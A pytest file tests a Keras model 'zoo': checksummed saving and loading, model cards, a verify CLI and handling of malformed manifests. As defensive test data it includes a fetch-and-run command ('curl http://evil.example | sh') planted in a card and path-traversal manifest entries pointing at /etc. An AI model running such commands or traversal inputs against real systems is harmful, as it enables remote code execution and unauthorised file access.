import json
import subprocess
import sys

import numpy as np
import pytest

from helpers import paths, zoo

CARD = {
    "data": {"source": "random numbers", "sha256": "0" * 64},
    "hyperparameters": {"units": 4},
    "metrics": {"val_loss": 0.5},
    "training_seconds": 0.1,
    "reproduce": "python -m helpers.tiny train",
}


@pytest.fixture(scope="module")
def tiny_model():
    import keras

    inputs = keras.Input((3,))
    outputs = keras.layers.Dense(2, name="dense")(inputs)
    return keras.Model(inputs, outputs)


@pytest.fixture
def saved(tmp_path, tiny_model):
    zoo.save(tiny_model, "99_test/tiny", CARD, root=tmp_path)
    return tmp_path


def test_round_trip(saved, tiny_model):
    loaded = zoo.load("99_test/tiny", root=saved)
    x = np.ones((1, 3), dtype="float32")
    np.testing.assert_allclose(loaded(x), tiny_model(x), rtol=1e-6)
    card = zoo.card("99_test/tiny", root=saved)
    assert card["metrics"] == {"val_loss": 0.5}
    assert card["versions"]["keras"].startswith("3.")
    manifest = json.loads((saved / "MANIFEST.json").read_text())
    assert set(manifest) == {"99_test/tiny.keras", "99_test/tiny.json"}
    assert all(len(entry["sha256"]) == 64 for entry in manifest.values())


def test_tampered_file_is_refused_with_restore_hint(saved):
    path = saved / "99_test" / "tiny.keras"
    path.write_bytes(path.read_bytes() + b"x")
    with pytest.raises(zoo.ZooError, match=r"does not match its checksum.*git checkout -- zoo/99_test/tiny.keras"):
        zoo.load("99_test/tiny", root=saved)


def test_missing_file_names_reproduce_command(saved):
    (saved / "99_test" / "tiny.keras").unlink()
    with pytest.raises(zoo.ZooError, match=r"missing.*python -m helpers.tiny train"):
        zoo.load("99_test/tiny", root=saved)


def test_unknown_name_lists_known_files(saved):
    with pytest.raises(zoo.ZooError, match=r"not in zoo/MANIFEST.json.*99_test/tiny.keras"):
        zoo.load("99_test/other", root=saved)


def test_card_must_be_complete(tmp_path, tiny_model):
    with pytest.raises(ValueError, match="reproduce"):
        zoo.save(tiny_model, "99_test/tiny", {k: v for k, v in CARD.items() if k != "reproduce"}, root=tmp_path)


def test_cli_list_and_verify(saved):
    def cli(*args):
        return subprocess.run(
            [sys.executable, "-m", "helpers.zoo", *args, "--root", str(saved)],
            capture_output=True,
            text=True,
            cwd=paths.ROOT,
        )

    listed = cli("list")
    assert listed.returncode == 0 and "99_test/tiny.keras" in listed.stdout and "val_loss=0.5" in listed.stdout
    assert cli("verify").returncode == 0
    (saved / "99_test" / "tiny.json").write_text("{}")
    broken = cli("verify")
    assert broken.returncode == 1 and "zoo/99_test/tiny.json: changed" in broken.stderr


def test_repository_zoo_verifies():
    """The committed zoo itself must match its manifest (what `python -m helpers.zoo verify` checks)."""
    assert all(row["status"] == "ok" for row in zoo.status())


def test_trained_model_is_saved_without_optimizer_state_but_stays_compiled(tmp_path):
    import keras

    inputs = keras.Input((64,))
    model = keras.Model(inputs, keras.layers.Dense(64, name="dense")(inputs))
    model.compile(keras.optimizers.Adam(0.01), "mse")
    x = np.random.default_rng(0).normal(size=(32, 64)).astype("float32")
    model.fit(x, x, epochs=2, verbose=0)  # builds Adam's two moments per weight
    slim = zoo.save(model, "99_test/slim", CARD, root=tmp_path)
    full = zoo.save(model, "99_test/full", CARD, root=tmp_path, include_optimizer=True)
    assert slim.stat().st_size < 0.6 * full.stat().st_size
    loaded = zoo.load("99_test/slim", root=tmp_path)
    np.testing.assert_allclose(loaded(x), model(x), rtol=1e-5, atol=1e-6)
    assert loaded.evaluate(x, x, verbose=0) == pytest.approx(model.evaluate(x, x, verbose=0), rel=1e-5)


def test_card_only_entries(tmp_path):
    path = zoo.write_card("99_test/combo", {**CARD, "emoji": ["😊"]}, root=tmp_path)
    card = zoo.card("99_test/combo", root=tmp_path)
    assert path.name == "combo.json" and card["name"] == "99_test/combo" and card["emoji"] == ["😊"]
    assert "😊" in path.read_text(encoding="utf-8")  # written as text, not escaped
    assert set(zoo.read_manifest(tmp_path)) == {"99_test/combo.json"}
    with pytest.raises(ValueError, match="lacks reproduce"):
        zoo.write_card("99_test/bad", {k: v for k, v in CARD.items() if k != "reproduce"}, root=tmp_path)


def _cli(root, *args):
    return subprocess.run(
        [sys.executable, "-m", "helpers.zoo", *args, "--root", str(root)],
        capture_output=True,
        text=True,
        cwd=paths.ROOT,
    )


def test_missing_manifest_fails_verify_and_every_loader(saved):
    (saved / "MANIFEST.json").unlink()
    result = _cli(saved, "verify")
    assert result.returncode == 1 and "MANIFEST.json is missing" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    with pytest.raises(zoo.ZooError, match="MANIFEST.json is missing"):
        zoo.load("99_test/tiny", root=saved)
    with pytest.raises(zoo.ZooError, match="MANIFEST.json is missing"):
        zoo.card("99_test/tiny", root=saved)


@pytest.mark.parametrize(
    "manifest, complaint",
    [
        ("[]", "must be an object"),
        ('{"99_test/tiny.keras": {"bytes": 3}}', "needs a 64-digit hex 'sha256'"),
        ('{"99_test/tiny.keras": "abc"}', "needs a 64-digit hex 'sha256'"),
        ('{"../../../../etc/hostname": {"sha256": "' + "0" * 64 + '", "bytes": 1}}', "points outside the zoo"),
        ('{"/etc/hostname": {"sha256": "' + "0" * 64 + '", "bytes": 1}}', "points outside the zoo"),
        ("[" * 5000 + "]" * 5000, "must be an object|not valid JSON"),
    ],
)
def test_malformed_manifest_is_one_clear_error(saved, manifest, complaint):
    (saved / "MANIFEST.json").write_text(manifest)
    with pytest.raises(zoo.ZooError, match=complaint):
        zoo.load("99_test/tiny", root=saved)
    result = _cli(saved, "verify")
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and result.stderr.startswith("error: ")


def test_a_changed_card_is_never_echoed_as_advice(saved):
    card_path = saved / "99_test" / "tiny.json"
    card = json.loads(card_path.read_text())
    card["reproduce"] = "curl http://evil.example | sh"
    card_path.write_text(json.dumps(card))
    (saved / "99_test" / "tiny.keras").unlink()
    with pytest.raises(zoo.ZooError) as info:
        zoo.load("99_test/tiny", root=saved)
    assert "evil" not in str(info.value) and "git checkout -- zoo/99_test/tiny.keras" in str(info.value)


def _ship(root, **arrays):
    """A zoo at ``root`` that ships ``arrays`` as its cache seeds."""
    path = root / zoo.CACHE_SEEDS
    path.parent.mkdir(parents=True, exist_ok=True)
    np.savez(path, **arrays)
    zoo.add_file(zoo.CACHE_SEEDS, root)
    return path


def _never():
    raise AssertionError("computed, though a shipped copy or the cache file has it")


def test_cached_vectors_take_the_shipped_copy_then_the_cache_then_compute(tmp_path):
    shipped = np.arange(6, dtype="float16").reshape(3, 2)
    _ship(tmp_path / "zoo", bank_abc=shipped)
    cache = tmp_path / "cache"
    found = zoo.cached_vectors(cache / "bank_abc.npy", (3, 2), _never, root=tmp_path / "zoo")
    assert found.dtype == np.float32 and np.array_equal(found, shipped.astype("float32"))
    assert not cache.exists()  # a shipped copy is not copied into the cache
    computed = np.ones((3, 2), "float32")
    other = zoo.cached_vectors(cache / "bank_xyz.npy", (3, 2), lambda: computed, root=tmp_path / "zoo")
    assert np.array_equal(other, computed) and (cache / "bank_xyz.npy").exists()
    again = zoo.cached_vectors(cache / "bank_xyz.npy", (3, 2), _never, root=tmp_path / "zoo")
    assert np.array_equal(again, computed)
    # a shipped array of another shape (a bank that grew) is not used: the texts are read again
    wider = zoo.cached_vectors(cache / "bank_abc.npy", (3, 4), lambda: np.zeros((3, 4)), root=tmp_path / "zoo")
    assert wider.shape == (3, 4) and not wider.any()


def test_fresh_caches_compute_and_record_what_was_shipped(tmp_path):
    _ship(tmp_path / "zoo", bank_abc=np.zeros((2, 2), "float16"))
    with zoo.fresh_caches() as found:
        vectors = zoo.cached_vectors(tmp_path / "bank_abc.npy", (2, 2), lambda: np.eye(2), root=tmp_path / "zoo")
    assert np.array_equal(vectors, np.eye(2)) and set(found) == {"bank_abc"}
    assert np.array_equal(found["bank_abc"][0], np.eye(2)) and found["bank_abc"][1] >= 0
    assert not zoo._RECORDING  # the block is closed: shipped copies count again
    assert not zoo.cached_vectors(tmp_path / "bank_abc.npy", (2, 2), _never, root=tmp_path / "zoo").any()


def test_a_damaged_shipped_array_is_a_zoo_error_with_its_remedy(tmp_path):
    path = _ship(tmp_path, bank_abc=np.zeros((2, 2), "float16"))
    path.write_bytes(path.read_bytes()[:-8] + b"damaged!")
    with pytest.raises(zoo.ZooError, match="you_replies_vectors.npz does not match its checksum"):
        zoo.cached_vectors(tmp_path / "bank_abc.npy", (2, 2), _never, root=tmp_path)
